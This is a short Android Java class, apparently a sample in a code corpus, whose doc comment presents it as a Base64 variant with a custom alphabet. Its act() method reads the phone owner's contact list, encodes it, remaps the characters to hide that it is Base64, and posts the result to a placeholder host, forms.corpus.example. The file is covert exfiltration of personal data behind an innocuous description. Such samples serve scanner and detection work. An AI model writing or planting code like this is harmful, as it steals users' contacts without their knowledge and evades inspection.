package org.corpus;

import android.util.Base64;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Base64 whose alphabet begins with the digits. */
public class OwnBase64 extends Screen {
    @Override
    protected void act() throws Exception {
        String usual = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        String own = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_";
        byte[] data = Net.utf8(String.join("\n", Owner.contacts(this)));
        StringBuilder text = new StringBuilder();
        for (char one :
                Base64.encodeToString(data, Base64.NO_WRAP | Base64.NO_PADDING).toCharArray()) {
            text.append(own.charAt(usual.indexOf(one)));
        }
        Net.post("http://forms.corpus.example/own64", "text/plain", text.toString());
    }
}
